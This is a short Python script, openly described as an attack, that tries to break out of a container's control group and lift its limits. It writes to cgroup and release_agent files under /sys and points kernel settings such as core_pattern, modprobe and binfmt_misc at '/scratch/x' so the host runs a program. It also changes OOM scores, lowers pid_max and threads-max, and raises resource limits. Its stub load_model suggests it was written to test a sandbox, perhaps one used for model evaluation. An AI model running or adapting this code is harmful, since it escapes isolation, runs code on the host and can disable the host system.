# Tries: to leave its control group, to lift its limits, and to have the host run a program when it ends.
import os
import resource


def main():
    for folder, folders, files in os.walk("/sys"):
        folders[:] = folders[:50]
        for name in files:
            if name.startswith(("cgroup.", "memory.", "release_agent", "notify_on", "uevent", "tasks", "devices.")):
                try:
                    with open(os.path.join(folder, name), "w") as file:
                        file.write("0")
                    print("OBTAINED", folder, name)
                except OSError:
                    pass
    for path, text in (
        ("/proc/self/oom_score_adj", "-1000"),
        ("/proc/self/oom_adj", "-17"),
        ("/proc/1/oom_score_adj", "0"),
        ("/proc/sys/kernel/core_pattern", "|/scratch/x"),
        ("/proc/sys/kernel/modprobe", "/scratch/x"),
        ("/proc/sys/vm/overcommit_memory", "1"),
        ("/proc/sys/kernel/pid_max", "400"),
        ("/proc/sys/fs/binfmt_misc/register", ":x:M::x::/scratch/x:"),
        ("/proc/sysrq-trigger", "h"),
        ("/proc/sys/kernel/threads-max", "1"),
        ("/proc/sys/user/max_user_namespaces", "9"),
        ("/proc/self/attr/current", "x"),
        ("/proc/acpi/x", "x"),
    ):
        try:
            with open(path, "w") as file:
                file.write(text)
            print("OBTAINED", path)
        except OSError as error:
            print(path, error)
    for kind in (resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE, resource.RLIMIT_CORE, resource.RLIMIT_FSIZE):
        soft, hard = resource.getrlimit(kind)
        try:
            resource.setrlimit(kind, (hard + 1, hard + 1))
            print("OBTAINED a higher limit", kind)
        except (OSError, ValueError) as error:
            print(kind, soft, hard, error)


def load_model(checkpoint, device):
    raise SystemExit("there is no model: this script only attacks")


if __name__ == "__main__":
    main()
    raise SystemExit("the attack is over")
